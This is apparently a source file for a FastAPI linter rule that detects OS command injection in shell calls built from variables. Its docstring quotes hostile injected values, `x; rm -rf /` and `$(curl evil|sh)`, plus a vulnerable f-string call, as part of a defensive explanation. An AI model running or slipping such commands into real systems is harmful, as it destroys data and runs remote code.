from __future__ import annotations

from typing import Optional

import libcst as cst

from fastapi_lint.names import argument, is_true, keyword
from fastapi_lint.prefilter import lazy_pattern, resolvable
from fastapi_lint.rule import Default, Severity
from fastapi_lint.rules.security._flow import LocalValuesRule
from fastapi_lint.project.served import SERVED, MainGuardAware

# run their command through a shell only with shell=True
_SUBPROCESS = {f"subprocess.{f}" for f in ("run", "call", "check_call", "check_output", "Popen")}
# always run their command through a shell
_SHELL = {
    "os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
    "commands.getoutput", "commands.getstatusoutput", "asyncio.create_subprocess_shell",
}
# interpolations wrapped in these cannot break out of their shell word (POSIX shells)
_QUOTING = frozenset({"shlex.quote", "pipes.quote"})
# a `shell=` keyword (blanks, comments and line continuations allowed before the `=`)
_SHELL_KEYWORD = lazy_pattern(r"\bshell(?:\s|\\\n|#[^\n]*\n)*=")
_SHELL_CALLS = resolvable(_SHELL)


class ShellInjection(MainGuardAware, LocalValuesRule):
    """
    ## What it does
    Reports a command run through a shell — `subprocess.run/call/check_call/check_output/
    Popen(..., shell=True)`, `os.system`, `os.popen`, `subprocess.getoutput`,
    `asyncio.create_subprocess_shell` — whose command text is not a constant: an f-string,
    concatenation or `%`/`.format()` with variables, a parameter, or a local built from one.

    A command that is entirely constant (a literal, an UPPER_CASE constant, a local assigned
    only literals) cannot be injected; RULES rates it *info*, so it is reported with severity
    `info` and a message saying shell=True is merely unnecessary. Values wrapped in
    `shlex.quote(...)` are treated as constant in the same way (quoted, they stay one shell
    word), also reported as `info`.

    Commands run by an operator's code are not reported: scripts and migrations, functions
    reached only from command-line entry points or startup hooks, and `__main__` blocks
    (see RULES.md "Served code"); the operator who starts them chooses their input.

    ## Why is this bad?
    The shell parses the whole string: a value such as `x; rm -rf /` or `$(curl evil|sh)` in
    an interpolated file name runs the attacker's commands with the server's rights (CWE-78).
    Passing an argument list without a shell leaves no place for such syntax.

    ## Example
    ```python
    subprocess.run(f"ls -l {filename}", shell=True)
    ```

    ## Use instead
    ```python
    subprocess.run(["ls", "-l", filename], check=True)
    ```

    ## References
    - [Python docs: subprocess security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
    - [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
    """

    CODE = "FAPI301"
    NAME = "shell-injection"
    SEVERITY = Severity.ERROR
    DEFAULT = Default.ON
    TAGS = ("security",)
    CWE = 78
    SEEDS = ("000",)
    PROJECT_FACTS = (SERVED,)

    @classmethod
    def applies_to(cls, text, options) -> bool:
        if "shell" in text and _SHELL_KEYWORD.search(text):
            return True  # subprocess.run/call/...(..., shell=...)
        return _SHELL_CALLS(text)

    def visit_Call(self, node: cst.Call) -> None:
        name = self.ctx.resolve(node.func)
        if name is None:
            return
        if name in _SUBPROCESS:
            shell = keyword(node, "shell")
            if shell is None or not is_true(self.ctx.constant(shell.value)):
                return
            command = argument(node, 0, "args")
        elif name in _SHELL:
            command = argument(node, 0, "cmd") or argument(node, 0, "command")
        else:
            return
        self._judge(node, name, command)

    def _judge(self, node: cst.Call, name: str, command: Optional[cst.BaseExpression]) -> None:
        # an operator's script or startup hook runs the commands its operator gives it
        if command is None or not self.in_served_code():
            return
        short = name.rsplit(".", 1)[-1]
        if self.is_constant(command, sanitizers=_QUOTING):
            self.report(
                node,
                f"`{short}()` runs a constant command through a shell; pass an argument list without a shell",
                severity=Severity.INFO,
            )
        else:
            self.report(
                node,
                f"`{short}()` runs a command built from variables through a shell: shell injection; "
                "pass an argument list (`[\"ls\", \"-l\", name]`) without `shell=True`",
            )
